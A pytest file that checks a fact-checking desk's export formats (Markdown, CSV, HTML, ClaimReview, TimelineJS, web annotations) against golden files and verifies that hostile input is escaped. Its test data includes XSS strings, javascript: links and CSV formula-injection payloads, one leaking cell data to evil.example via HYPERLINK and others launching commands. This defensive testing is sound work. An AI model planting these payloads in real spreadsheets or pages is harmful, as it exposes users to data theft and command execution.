"""The publishing export formats on a small fixture desk: golden files, and each format
checked against what its consumers require.

Golden files live in ``tests/golden/export/``. After an intended change to a format,
regenerate them with::

    WORKBENCH_UPDATE_GOLDEN=1 python -m pytest tests/test_export_formats.py -k golden

then read the diff before committing it: the golden files are the formats' contract.
The fixture desk (``tests/_support_export.py``) is built fresh through the repository,
so its ids are the same on every run, and its clock and the export's ``now`` are pinned.
"""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from markdown_it import MarkdownIt
from markdown_it.token import Token

from db.engine import open_desk
from db.repo import Repo
from tests._support_export import (
    ARTICLE_1,
    ARTICLE_2,
    COLLECTION,
    EXPORTER,
    HOSTILE_TEXT,
    ORGANISATION,
    ORGANISATION_URL,
    SCRIPT_TEXT,
    FixtureDesk,
    build_fixture_desk,
    options,
)
from workbench.export import (
    CSV_KINDS,
    FORMATS,
    ExportError,
    ExportOptions,
    check_options,
    csv_export,
    export_to_path,
    get_format,
    markdown,
    notes,
    preview,
    rows,
    write,
)
from workbench.export.claimreview import CLAIM_LIMIT, shorten
from workbench.export.csv_export import neutralise
from workbench.export.markdown import md_link, md_text

GOLDEN = Path(__file__).resolve().parent / "golden" / "export"
UPDATE = os.environ.get("WORKBENCH_UPDATE_GOLDEN") == "1"


@pytest.fixture(scope="module")
def desk(tmp_path_factory: pytest.TempPathFactory) -> Iterator[FixtureDesk]:
    built = build_fixture_desk(tmp_path_factory.mktemp("export-fixture") / "desk.db")
    yield built
    built.repo.engine.dispose()


def render(desk: FixtureDesk, fmt: str, **changes: Any) -> str:
    out = io.StringIO()
    write(desk.repo.engine, fmt, out, options(**changes))
    return out.getvalue()


PUBLISHED = {"organisation": ORGANISATION, "organisation_url": ORGANISATION_URL}

#: golden file → (format, options)
CASES: dict[str, tuple[str, dict[str, Any]]] = {
    "desk.md": ("md", {}),
    "collection.md": ("md", {"collection": COLLECTION}),
    "desk.html": ("html", {}),
    "collection.html": ("html", {"collection": COLLECTION}),
    "desk.claimreview.json": ("claimreview", PUBLISHED),
    "collection.claimreview.json": ("claimreview", {**PUBLISHED, "collection": COLLECTION}),
    "desk.timeline.json": ("timelinejs", {}),
    "collection.timeline.json": ("timelinejs", {"collection": COLLECTION}),
    "desk.annotations.jsonld": ("annotations", {}),
    "collection.annotations.jsonld": ("annotations", {"collection": COLLECTION}),
    **{f"desk-{kind}.csv": ("csv", {"kind": kind}) for kind in CSV_KINDS},
    **{
        f"collection-{kind}.csv": ("csv", {"kind": kind, "collection": COLLECTION})
        for kind in CSV_KINDS
    },
}


# --------------------------------------------------------------------------- golden files


@pytest.mark.parametrize("name", sorted(CASES))
def test_golden(desk: FixtureDesk, name: str) -> None:
    fmt, changes = CASES[name]
    text = render(desk, fmt, **changes)
    path = GOLDEN / name
    if UPDATE:
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(text.encode("utf-8"))
    assert path.exists(), f"no golden file {path}; run with WORKBENCH_UPDATE_GOLDEN=1"
    assert text == path.read_bytes().decode("utf-8"), f"{name} differs from its golden file"


@pytest.mark.parametrize(
    "name", ["desk.md", "collection.html", "desk-links.csv", "collection.timeline.json"]
)
def test_small_batches_read_the_same_rows(
    desk: FixtureDesk, name: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Batches of two cross every batch edge of the keyset and chunk readers."""
    monkeypatch.setattr(rows, "BATCH", 2)
    fmt, changes = CASES[name]
    assert render(desk, fmt, **changes) == (GOLDEN / name).read_bytes().decode("utf-8")


# --------------------------------------------------------------------------- registry


def test_every_format_of_the_issue_is_registered() -> None:
    assert set(FORMATS) == {
        "md", "csv", "json", "jsonl", "claimreview", "timelinejs", "annotations", "html",
    }  # fmt: skip
    assert FORMATS["csv"].parts == ("statements", "positions", "events", "links")
    assert all(f.name == name and f.suffix.startswith(".") for name, f in FORMATS.items())


def test_unknown_format_kind_and_bom_are_one_line_errors() -> None:
    with pytest.raises(ExportError, match=r"unknown export format 'xml' \(have: md, csv"):
        get_format("xml")
    with pytest.raises(ExportError, match="--kind is for csv only"):
        check_options("md", ExportOptions(editor="x", kind="statements"))
    with pytest.raises(ExportError, match=r"unknown kind 'people' for csv \(have: statements"):
        check_options("csv", ExportOptions(editor="x", kind="people"))
    with pytest.raises(ExportError, match="--bom is for csv only"):
        check_options("html", ExportOptions(editor="x", bom=True))


def test_csv_without_a_kind_on_a_stream_is_refused(desk: FixtureDesk) -> None:
    with pytest.raises(ExportError, match="--kind"):
        render(desk, "csv")


# --------------------------------------------------------------------------- scope


def test_unknown_collection_names_the_ones_there_are(desk: FixtureDesk) -> None:
    for fmt in FORMATS:
        if fmt in ("json", "jsonl"):
            continue  # their writer belongs to the JSON export; tested there
        kind = {"kind": "links"} if fmt == "csv" else {}
        with pytest.raises(ExportError) as caught:
            render(desk, fmt, collection="Nope", **kind)
        assert str(caught.value) == "no collection named 'Nope' (have: Archive, Verrin talks)"


def _csv(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_whole_desk_publishes_accepted_work_only(desk: FixtureDesk) -> None:
    statements = _csv(render(desk, "csv", kind="statements"))
    assert [int(r["id"]) for r in statements] == [desk.ids[f"s{i}"] for i in range(1, 7)]
    links = _csv(render(desk, "csv", kind="links"))
    assert desk.ids["s7"] not in {int(r["from_id"]) for r in links}  # link from a suggestion
    assert len(links) == 3
    assert "Suggested but never accepted" not in render(desk, "html")


def test_a_collection_keeps_its_order_and_notes(desk: FixtureDesk) -> None:
    statements = _csv(render(desk, "csv", kind="statements", collection="  verrin   TALKS "))
    assert [int(r["id"]) for r in statements] == [desk.ids[k] for k in ("s4", "s1", "s3", "s7")]
    assert statements[-1]["collection_note"] == "Check | first\nthen run"
    assert statements[-1]["review"] == "suggested"  # in the set because an editor put it there
    assert {r["collection"] for r in statements} == {COLLECTION}
    events = _csv(render(desk, "csv", kind="events", collection=COLLECTION))
    assert [(int(r["id"]), r["collection_note"]) for r in events] == [
        (desk.ids["e1"], "Lead with this")
    ]
    links = _csv(render(desk, "csv", kind="links", collection=COLLECTION))
    assert {(int(r["from_id"]), int(r["to_id"])) for r in links} == {
        (desk.ids["s4"], desk.ids["s1"]),
        (desk.ids["s7"], desk.ids["s1"]),
    }  # both ends in the collection; s3 → s2 is not (s2 is not in it)


@pytest.mark.parametrize("fmt", ["md", "html", "claimreview", "timelinejs", "annotations", "csv"])
def test_every_export_says_when_by_whom_and_from_which_collection(
    desk: FixtureDesk, fmt: str
) -> None:
    kind = {"kind": "statements"} if fmt == "csv" else {}
    whole = render(desk, fmt, **kind)
    assert EXPORTER in whole
    assert "2026-11-12" in whole
    assert "whole desk" in whole or fmt == "csv"
    scoped = render(desk, fmt, collection="verrin talks", **kind)
    assert COLLECTION in scoped and EXPORTER in scoped and "2026-11-12" in scoped


def _statement_fields(desk: FixtureDesk) -> list[tuple[str, str, str]]:
    """(outlet, article URL, evidence quote) of the statements with an http(s) URL."""
    with desk.repo.read() as session:
        from sqlmodel import select

        from db.models import Statement

        found = session.exec(select(Statement).where(Statement.review == "accepted")).all()
    urls = {1: "https://meridianwire.example/2026/11/04/ready-to-talk",
            2: "https://meridianwire.example/2026/11/05/filling(stopped)"}  # fmt: skip
    return [
        ("Meridian Wire", urls[s.article_id], s.evidence_exact)  # type: ignore[index]
        for s in found
        if s.article_id in urls
    ]


@pytest.mark.parametrize("fmt", ["html", "csv", "annotations"])
def test_every_exported_statement_carries_its_provenance(desk: FixtureDesk, fmt: str) -> None:
    """Outlet, article URL, evidence quote and status for every statement."""
    if fmt == "csv":
        for row in _csv(render(desk, "csv", kind="statements")):
            assert row["outlet"] and row["article_url"] and row["evidence_exact"]
            assert row["verification"]
        return
    text = render(desk, fmt)
    text = " ".join(_strings(json.loads(text))) if fmt == "annotations" else _html_text(text)
    for _outlet, url, quote in _statement_fields(desk):
        assert url in text
        assert " ".join(quote.split()) in " ".join(text.split())
    assert "Meridian Wire" in text or fmt == "annotations"


def _strings(value: Any) -> Iterator[str]:
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for item in value.values():
            yield from _strings(item)
    elif isinstance(value, list):
        for item in value:
            yield from _strings(item)


# --------------------------------------------------------------------------- markdown


def _inline_text(token: Token) -> str:
    parts = []
    for child in token.children or []:
        assert child.type not in ("html_inline", "html_block"), f"raw HTML made: {child}"
        if child.type in ("text", "code_inline"):
            parts.append(child.content)
        elif child.type in ("softbreak", "hardbreak"):
            parts.append(" ")
    return "".join(parts)


def md_tables(source: str) -> list[list[list[str]]]:
    """Every table as rows of cells' plain text (header row first)."""
    tokens = MarkdownIt("gfm-like").parse(source)
    assert not [t for t in tokens if t.type == "html_block"], "raw HTML block made"
    tables: list[list[list[str]]] = []
    row: list[str] | None = None
    for token in tokens:
        if token.type == "table_open":
            tables.append([])
        elif token.type == "tr_open":
            row = []
        elif token.type == "tr_close":
            tables[-1].append(row or [])
            row = None
        elif token.type == "inline" and row is not None:
            row.append(_inline_text(token))
        elif token.type == "inline":
            _inline_text(token)
    return tables


def md_links(source: str) -> list[str]:
    tokens = MarkdownIt("gfm-like").parse(source)
    return [
        str(child.attrs["href"])
        for token in tokens
        if token.type == "inline"
        for child in token.children or []
        if child.type == "link_open"
    ]


HOSTILE_CELLS = [
    "a | b",
    "line one\nline two\r\nthree\u2028four",
    "`code | inside` and ``two``",
    "<b>bold</b> <script>alert(1)</script> <!-- comment -->",
    "back\\slash \\| escaped pipe \\",
    "# heading",
    "- list item",
    "+ plus item",
    "1. numbered",
    "2) numbered",
    "> quote",
    "===",
    "---",
    "*em* _em_ **strong** ~~gone~~",
    "[click](javascript:alert(1)) ![img](http://evil.example/x.png)",
    "&amp; &copy; &#x41; AT&T",
    "| leading pipe",
    "trailing pipe |",
    "tab\there",
    "",
]


@pytest.mark.parametrize("value", HOSTILE_CELLS)
def test_md_text_keeps_a_table_cell_a_cell(value: str) -> None:
    source = (
        "| first | second | third |\n| --- | --- | --- |\n"
        f"| {md_text(value) or ' '} | middle | {md_text(value) or ' '} |\n"
    )
    [table] = md_tables(source)
    assert table == [
        ["first", "second", "third"],
        [" ".join(value.split()), "middle", " ".join(value.split())],
    ]
    assert all(link.startswith("http://") for link in md_links(source))  # linkify's own


@pytest.mark.parametrize("value", [v for v in HOSTILE_CELLS if v])
def test_md_text_makes_no_structure_at_the_start_of_a_line(value: str) -> None:
    tokens = MarkdownIt("gfm-like").parse(md_text(value) + "\n")
    assert [t.type for t in tokens] == ["paragraph_open", "inline", "paragraph_close"]
    assert _inline_text(tokens[1]) == " ".join(value.split())


def test_md_link_only_links_web_addresses() -> None:
    assert md_link("x", "javascript:alert(1)") == "x"
    assert md_link("x", "data:text/html,<b>") == "x"
    assert md_link("x", "JAVASCRIPT://%0aalert(1)") == "x"
    assert md_link("x", "https://x.example/a b") == "x"  # not a usable address
    source = "| a |\n| --- |\n| " + md_link("A | B", "https://x.example/a|b(c)`d") + " |\n"
    [table] = md_tables(source)
    assert table == [["a"], ["A | B"]]
    assert md_links(source) == ["https://x.example/a%7Cb%28c%29%60d"]


def test_markdown_export_renders_the_intended_tables(desk: FixtureDesk) -> None:
    source = render(desk, "md")
    positions, timeline = md_tables(source)
    assert positions[0] == ["Issue", "Ministry of Water", "Piet Savolder", "Tomás Idrevo"]
    assert positions[1] == [
        "Dam | filling paused?",
        "Says filling stopped | no numbers (as of 2026-11-05)",
        "—",
        "—",
    ]
    assert positions[2] == [
        "Will the talks open?",
        "—",
        "Expects <weeks> of talks",
        "Ready to talk 'today' (as of 2026-11-04)",  # the latest of the cell's two
    ]
    assert timeline[0] == ["Date", "What", "Who", "Reported by", "Status"]
    assert all(len(row) == 5 for row in timeline)
    by_text = {row[1]: row for row in timeline[1:]}
    hostile = by_text[" ".join(HOSTILE_TEXT.split())]
    assert hostile == [
        "c. 5 Nov 2026",
        " ".join(HOSTILE_TEXT.split()),
        "Piet Savolder",
        "Meridian Wire: Ministry: filling has stopped",
        "misleading",
    ]
    assert by_text[SCRIPT_TEXT][0] == "4–6 Nov 2026"
    assert [row[0] for row in timeline[1:]] == [
        "Oct 2026",  # event, month precision
        "Nov 2026",  # statement, month precision
        "c. 2 Nov 2026",  # approximate event
        "4–6 Nov 2026",  # ranged event before the day's statements
        "4 Nov 2026",
        "4–6 Nov 2026",
        "c. 5 Nov 2026",
        "7 Nov 2026",
    ]
    links = md_links(source)
    assert links and all(link.startswith("https://") for link in links)
    assert "javascript" not in "".join(links)


def test_markdown_statements_list_has_one_item_per_statement(desk: FixtureDesk) -> None:
    source = render(desk, "md")
    tokens = MarkdownIt("gfm-like").parse(source[source.index("## Statements") :])
    items = [t for t in tokens if t.type == "list_item_open" and t.level == 1]
    assert len(items) == 6
    assert "Reported by: The Lisk Courier: Savolder expects weeks of talks" in source
    assert "Address: javascript:alert(document.cookie)" in source  # shown, not linked


# --------------------------------------------------------------------------- csv


INJECTIONS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "-5",  # looks like a number; neutralised too (see csv_export's docstring)
    "=1+1",
]


@pytest.mark.parametrize("value", INJECTIONS)
def test_neutralise_prefixes_formula_starts(value: str) -> None:
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize("value", ["5", "hello = world", "", "'quoted", "a-b", "x@y.example"])
def test_neutralise_leaves_plain_text(value: str) -> None:
    assert neutralise(value) == value


def test_neutralise_leaves_numbers_numbers() -> None:
    assert neutralise(3) == 3


def test_csv_export_neutralises_every_cell(tmp_path: Path) -> None:
    repo = Repo(open_desk(str(tmp_path / "inject.db")), "=editor")
    try:
        actor = repo.add_actor("@Anon", "person")
        issue = repo.add_issue("+issue")
        for value in INJECTIONS:
            repo.add_statement(
                text=value, speaker_id=actor.id, issue_id=issue.id, tags=["-tag"], notes=value
            )
        out = io.StringIO()
        write(repo.engine, "csv", out, options(kind="statements"))
    finally:
        repo.engine.dispose()
    table = list(csv.reader(io.StringIO(out.getvalue())))
    header, body = table[0], table[1:]
    assert len(body) == len(INJECTIONS)
    for line in body:
        for cell in line:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), line
        row = dict(zip(header, line, strict=True))
        assert row["speaker"] == "'@Anon" and row["issue"] == "'+issue"
        assert row["tags"] == "'-tag" and row["editor"] == "'=editor"
    texts = [dict(zip(header, line, strict=True))["text"] for line in body]
    assert texts == ["'" + v.strip() for v in INJECTIONS]  # the repository strips text


def test_csv_keeps_newlines_and_pipes_inside_one_cell(desk: FixtureDesk) -> None:
    rows_ = _csv(render(desk, "csv", kind="statements"))
    hostile = next(r for r in rows_ if int(r["id"]) == desk.ids["s3"])
    assert hostile["text"] == "'" + HOSTILE_TEXT
    assert hostile["exported_by"] == EXPORTER
    assert hostile["exported_at"] == "2026-11-12T09:30:00+00:00"


def test_csv_bom_is_optional(desk: FixtureDesk, tmp_path: Path) -> None:
    plain, excel = tmp_path / "plain.csv", tmp_path / "excel.csv"
    export_to_path(desk.repo.engine, "csv", plain, options(kind="statements"))
    export_to_path(desk.repo.engine, "csv", excel, options(kind="statements", bom=True))
    assert plain.read_bytes().startswith(b"id,")
    assert excel.read_bytes().startswith(b"\xef\xbb\xbfid,")
    assert excel.read_bytes()[3:] == plain.read_bytes()
    assert b"\r\n" in plain.read_bytes()


def _failing_after(n: int) -> Any:
    def reader(conn: Any, scope: Any) -> Iterator[Any]:
        yield from list(rows.statements(conn, scope))[:n]
        raise RuntimeError("the reader stopped here")

    return reader


def test_csv_writes_each_row_as_it_is_read(
    desk: FixtureDesk, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Rows reach the stream before the reader has finished: nothing is collected first."""
    columns, _reader, cells = csv_export.KINDS["statements"]
    monkeypatch.setitem(csv_export.KINDS, "statements", (columns, _failing_after(3), cells))
    out = io.StringIO()
    with pytest.raises(RuntimeError, match="stopped here"):
        write(desk.repo.engine, "csv", out, options(kind="statements"))
    assert len(list(csv.reader(io.StringIO(out.getvalue())))) == 1 + 3


def test_markdown_writes_each_statement_as_it_is_read(
    desk: FixtureDesk, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(markdown, "statements", _failing_after(2))
    out = io.StringIO()
    with pytest.raises(RuntimeError, match="stopped here"):
        write(desk.repo.engine, "md", out, options())
    assert out.getvalue().count("\n- **") == 2


# --------------------------------------------------------------------------- files and preview


def test_csv_to_a_path_writes_one_file_per_kind(desk: FixtureDesk, tmp_path: Path) -> None:
    counts = export_to_path(desk.repo.engine, "csv", tmp_path / "desk.csv", options())
    assert sorted(p.name for p in tmp_path.iterdir()) == [
        "desk-events.csv", "desk-links.csv", "desk-positions.csv", "desk-statements.csv",
    ]  # fmt: skip
    assert counts == {"statements": 6, "positions": 4, "events": 3, "links": 3}
    for kind in CSV_KINDS:
        assert (tmp_path / f"desk-{kind}.csv").read_text("utf-8") == (
            GOLDEN / f"desk-{kind}.csv"
        ).read_text("utf-8")


def test_a_failed_part_leaves_no_file_at_all(
    desk: FixtureDesk, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def broken(conn: Any, scope: Any) -> Iterator[Any]:
        raise RuntimeError("disk on fire")
        yield  # pragma: no cover

    columns, _reader, cells = csv_export.KINDS["events"]
    monkeypatch.setitem(csv_export.KINDS, "events", (columns, broken, cells))
    (tmp_path / "desk-statements.csv").write_text("old", encoding="utf-8")
    with pytest.raises(RuntimeError, match="disk on fire"):
        export_to_path(desk.repo.engine, "csv", tmp_path / "desk.csv", options())
    assert sorted(p.name for p in tmp_path.iterdir()) == ["desk-statements.csv"]
    assert (tmp_path / "desk-statements.csv").read_text("utf-8") == "old"


def test_unknown_collection_writes_no_file(desk: FixtureDesk, tmp_path: Path) -> None:
    with pytest.raises(ExportError, match="no collection named"):
        export_to_path(desk.repo.engine, "html", tmp_path / "r.html", options(collection="x"))
    assert list(tmp_path.iterdir()) == []


def test_unwritable_targets_are_export_errors(desk: FixtureDesk, tmp_path: Path) -> None:
    with pytest.raises(ExportError, match="it is a directory"):
        export_to_path(desk.repo.engine, "md", tmp_path, options())
    missing = tmp_path / "nowhere" / "out.md"
    with pytest.raises(ExportError, match=f"folder {missing.parent} does not exist"):
        export_to_path(desk.repo.engine, "md", missing, options())


@pytest.mark.parametrize("fmt", ["md", "html", "timelinejs", "annotations", "claimreview"])
def test_preview_is_the_start_of_the_export(desk: FixtureDesk, fmt: str) -> None:
    full = render(desk, fmt, **PUBLISHED)
    assert preview(desk.repo.engine, fmt, options(**PUBLISHED), limit=300) == full[:300]
    assert preview(desk.repo.engine, fmt, options(**PUBLISHED), limit=10**7) == full


def test_preview_of_csv_shows_statements(desk: FixtureDesk) -> None:
    assert (
        preview(desk.repo.engine, "csv", options(), limit=40)
        == ((GOLDEN / "desk-statements.csv").read_bytes().decode("utf-8")[:40])
    )


def test_preview_stops_the_writer(desk: FixtureDesk, monkeypatch: pytest.MonkeyPatch) -> None:
    read: list[int] = []

    def counting(conn: Any, scope: Any) -> Iterator[Any]:
        for row in rows.statements(conn, scope):
            read.append(row.id)
            yield row

    start = render(desk, "md").index("## Statements")
    monkeypatch.setattr(markdown, "statements", counting)
    text = preview(desk.repo.engine, "md", options(), limit=start + 40)
    assert len(text) == start + 40
    assert len(read) == 1  # the first statement filled the preview; no more were read


# --------------------------------------------------------------------------- claimreview


def _claimreviews(desk: FixtureDesk, **changes: Any) -> list[dict[str, Any]]:
    data = json.loads(render(desk, "claimreview", **changes))
    assert isinstance(data, list)
    return data


def test_claimreview_has_the_fields_google_requires(desk: FixtureDesk) -> None:
    reviews = _claimreviews(desk, **PUBLISHED)
    by_id = {r["identifier"]: r for r in reviews}
    assert set(by_id) == {f"statement-{desk.ids[k]}" for k in ("s1", "s2", "s3", "s4")}
    for review in reviews:
        assert review["@context"] == "https://schema.org"
        assert review["@type"] == "ClaimReview"
        assert 0 < len(review["claimReviewed"]) <= CLAIM_LIMIT
        assert "\n" not in review["claimReviewed"]
        assert review["url"].startswith(ORGANISATION_URL + "#statement-")
        assert review["author"] == {
            "@type": "Organization",
            "name": ORGANISATION,
            "url": ORGANISATION_URL,
        }
        assert review["datePublished"] == "2026-11-12"
        rating = review["reviewRating"]
        assert rating["@type"] == "Rating" and rating["alternateName"]
        assert rating["worstRating"] <= rating["ratingValue"] <= rating["bestRating"]
        claim = review["itemReviewed"]
        assert claim["@type"] == "Claim"
        assert claim["author"]["name"] and claim["author"]["@type"] in ("Person", "Organization")
        [appearance] = claim["appearance"]
        assert appearance["@type"] == "CreativeWork"
        assert appearance["url"].startswith("https://")
        assert appearance["headline"]
    ratings = {
        key: (by_id[f"statement-{desk.ids[key]}"]["reviewRating"]["ratingValue"],
              by_id[f"statement-{desk.ids[key]}"]["reviewRating"]["alternateName"])
        for key in ("s1", "s2", "s3", "s4")
    }  # fmt: skip
    assert ratings == {
        "s1": (5, "Verified"),  # the desk's word: it may confirm who said it, not truth
        "s2": (1, "False"),
        "s3": (2, "Misleading"),
        "s4": (3, "Disputed"),
    }
    ministry = by_id[f"statement-{desk.ids['s2']}"]["itemReviewed"]
    assert ministry["author"] == {"@type": "Organization", "name": "Ministry of Water"}
    assert ministry["datePublished"] == "2026-11"  # month precision, said as known
    anonymous = by_id[f"statement-{desk.ids['s4']}"]["itemReviewed"]["author"]
    assert anonymous == {"@type": "Person", "name": "officials close to the talks"}


def test_claimreview_leaves_out_statements_without_a_verdict(desk: FixtureDesk) -> None:
    ids = {r["identifier"] for r in _claimreviews(desk, **PUBLISHED)}
    for key in ("s5", "s6"):  # unverified, superseded
        assert f"statement-{desk.ids[key]}" not in ids


def test_claimreview_without_an_organisation_falls_back_to_the_editor(desk: FixtureDesk) -> None:
    reviews = _claimreviews(desk)
    assert {json.dumps(r["author"]) for r in reviews} == {
        json.dumps({"@type": "Person", "name": EXPORTER})
    }
    # no review URL on the outlet's page: the article is where the claim appeared
    assert all("url" not in r for r in reviews)
    said, url_said = notes("claimreview", options())
    assert "[export] organisation" in said and EXPORTER in said
    assert "organisation_url" in url_said
    assert notes("claimreview", options(**PUBLISHED)) == []
    assert notes("md", options()) == []


def test_claimreview_never_rates_a_suggestion_nobody_accepted(tmp_path: Path) -> None:
    """A machine suggestion put in a collection (with its article, or by a filter) keeps
    its verification field, but no editor gave that verdict: it is not published."""
    from db.engine import open_desk
    from db.repo import Repo

    repo = Repo(open_desk(str(tmp_path / "s.db")), "ed")
    text = "Minister Vell said the sluice opens on Friday."
    article = repo.add_article(title="Sluice", text=text, url="https://wire.example/s")
    suggested = repo.add_statement(
        text="The sluice opens on Friday.", article_id=article.id, review="suggested"
    )
    accepted = repo.add_statement(text="Vell spoke.", article_id=article.id)
    repo.bulk_update("statement", [int(suggested.id), int(accepted.id)], verification="false")  # type: ignore[arg-type]
    collection = repo.ensure_collection("Set")
    repo.add_items(
        int(collection.id), [("statement", int(suggested.id)), ("statement", int(accepted.id))]
    )  # type: ignore[arg-type]
    out = io.StringIO()
    write(repo.engine, "claimreview", out, options(collection="Set", **PUBLISHED))
    assert [r["identifier"] for r in json.loads(out.getvalue())] == [f"statement-{accepted.id}"]
    # and adding the article to a collection takes its accepted statements only
    assert repo.article_statement_ids([int(article.id)]) == [int(accepted.id)]  # type: ignore[arg-type]
    repo.engine.dispose()


def test_claimreview_keeps_the_claim_short() -> None:
    words = " ".join(f"word{i}" for i in range(200))
    short = shorten(words)
    assert len(short) <= CLAIM_LIMIT and short.endswith("…")
    assert words.startswith(short[:-1]) and words[len(short) - 1] == " "
    assert shorten("short\nclaim") == "short claim"
    assert shorten("x" * 400).endswith("…") and len(shorten("x" * 400)) == CLAIM_LIMIT
    exact = "y" * CLAIM_LIMIT
    assert shorten(exact) == exact


# --------------------------------------------------------------------------- timelinejs


def _nulls(value: Any, path: str = "") -> list[str]:
    if value is None:
        return [path]
    if isinstance(value, dict):
        return [p for k, v in value.items() for p in _nulls(v, f"{path}.{k}")]
    if isinstance(value, list):
        return [p for i, v in enumerate(value) for p in _nulls(v, f"{path}[{i}]")]
    return []


def _valid_date(date: dict[str, Any]) -> None:
    assert set(date) <= {"year", "month", "day", "display_date"}
    assert isinstance(date["year"], int) or str(date["year"]).lstrip("-").isdigit()
    if "month" in date:
        assert 1 <= int(date["month"]) <= 12
    if "day" in date:
        assert "month" in date and 1 <= int(date["day"]) <= 31


def test_timelinejs_is_what_timelinejs_loads(desk: FixtureDesk) -> None:
    data = json.loads(render(desk, "timelinejs"))
    assert _nulls(data) == []
    assert data["title"]["text"]["headline"]
    slides = data["events"]
    ids = [s["unique_id"] for s in slides]
    assert len(ids) == len(set(ids))
    expected = {f"event-{desk.ids[k]}" for k in ("e1", "e2", "e3")} | {
        f"statement-{desk.ids[k]}" for k in ("s1", "s2", "s3", "s4", "s6")
    }
    assert set(ids) == expected  # s5 has no date; s7 is not accepted
    for slide in slides:
        _valid_date(slide["start_date"])
        if "end_date" in slide:
            _valid_date(slide["end_date"])
        assert slide["text"]["headline"]
        assert "<script" not in json.dumps(slide)
    by_id = {s["unique_id"]: s for s in slides}
    month_event = by_id[f"event-{desk.ids['e2']}"]
    assert month_event["start_date"] == {"year": 2026, "month": 10}
    assert "display_date" not in month_event
    assert by_id[f"statement-{desk.ids['s2']}"]["start_date"] == {"year": 2026, "month": 11}
    ranged = by_id[f"event-{desk.ids['e1']}"]
    assert ranged["end_date"] == {"year": 2026, "month": 11, "day": 6}
    assert ranged["display_date"] == "4–6 Nov 2026"
    assert ranged["group"] == "Piet Savolder"  # the first actor, alphabetically
    circa = by_id[f"event-{desk.ids['e3']}"]
    assert circa["display_date"] == "c. 2 Nov 2026" and "group" not in circa
    assert circa["text"]["headline"] == "Guards exchanged at &lt;Merrow&gt;"
    script = by_id[f"statement-{desk.ids['s4']}"]
    assert "&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt;" in script["text"]["text"]
    assert script["group"] == "officials close to the talks"
    assert by_id[f"statement-{desk.ids['s3']}"]["display_date"] == "c. 5 Nov 2026"


# --------------------------------------------------------------------------- annotations


def test_annotations_are_w3c_web_annotations_on_the_article_text(desk: FixtureDesk) -> None:
    data = json.loads(render(desk, "annotations"))
    assert data["@context"] == "http://www.w3.org/ns/anno.jsonld"
    assert data["type"] == "AnnotationCollection"
    assert data["creator"] == {"type": "Person", "name": EXPORTER}
    assert data["generated"] == "2026-11-12T09:30:00+00:00"
    page = data["first"]
    assert page["type"] == "AnnotationPage" and page["startIndex"] == 0
    items = page["items"]
    assert data["total"] == len(items) == 4  # s5's and s6's article has no web address
    assert len({item["id"] for item in items}) == 4
    urls = {
        "https://meridianwire.example/2026/11/04/ready-to-talk": ARTICLE_1,
        "https://meridianwire.example/2026/11/05/filling(stopped)": ARTICLE_2,
    }
    for item in items:
        assert item["type"] == "Annotation" and item["motivation"] == "assessing"
        assert item["id"].startswith("urn:uuid:")
        assert item["creator"]["name"] == "golden-desk"
        assert item["created"] == "2026-11-10T08:00:00+00:00"
        bodies = item["body"]
        assert all(b["type"] == "TextualBody" for b in bodies)
        assert bodies[0]["purpose"] == "assessing"
        target = item["target"]
        text = urls[target["source"]]
        quote, position = target["selector"]
        assert quote["type"] == "TextQuoteSelector"
        assert position["type"] == "TextPositionSelector"
        assert text[position["start"] : position["end"]] == quote["exact"]
        assert text[: position["start"]].endswith(quote["prefix"])
        assert text[position["end"] :].startswith(quote["suffix"])
    statuses = sorted(item["body"][0]["value"] for item in items)
    assert statuses == ["Disputed", "False", "Misleading", "Verified"]


def test_annotations_of_a_collection_carry_its_notes(desk: FixtureDesk) -> None:
    data = json.loads(render(desk, "annotations", collection=COLLECTION))
    assert COLLECTION in data["label"]
    items = data["first"]["items"]
    assert data["total"] == len(items) == 3  # s7 has no evidence
    first = items[0]  # s4, the collection's first
    assert first["target"]["selector"][0]["exact"] == SCRIPT_TEXT
    tagged = next(i for i in items if any(b["purpose"] == "tagging" for b in i["body"]))
    assert {b["value"] for b in tagged["body"] if b["purpose"] == "tagging"} == {
        "talks",
        "leaders",
    }
    assert {"purpose": "commenting", "value": "Desk note: confirmed on tape."}.items() <= next(
        b for b in tagged["body"] if b["purpose"] == "commenting"
    ).items()


# --------------------------------------------------------------------------- html


class _Page(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def _page(source: str) -> _Page:
    page = _Page()
    page.feed(source)
    page.close()
    return page


def _html_text(source: str) -> str:
    page = _page(source)
    hrefs = " ".join(str(attrs.get("href")) for _, attrs in page.tags if attrs.get("href"))
    return "".join(page.text) + " " + hrefs


@pytest.mark.parametrize("collection", [None, COLLECTION])
def test_html_is_self_contained_and_escapes_hostile_text(
    desk: FixtureDesk, collection: str | None
) -> None:
    source = render(desk, "html", collection=collection)
    page = _page(source)
    names = {tag for tag, _ in page.tags}
    assert not names & {"script", "iframe", "object", "embed", "img", "link", "frame", "base"}
    for tag, attrs in page.tags:
        assert "src" not in attrs, tag
        assert not [a for a in attrs if a.startswith("on")], (tag, attrs)
        href = attrs.get("href")
        if href is not None:
            assert href.startswith(("https://", "http://", "#")), href
    assert "javascript:" not in " ".join(str(a.get("href")) for _, a in page.tags)
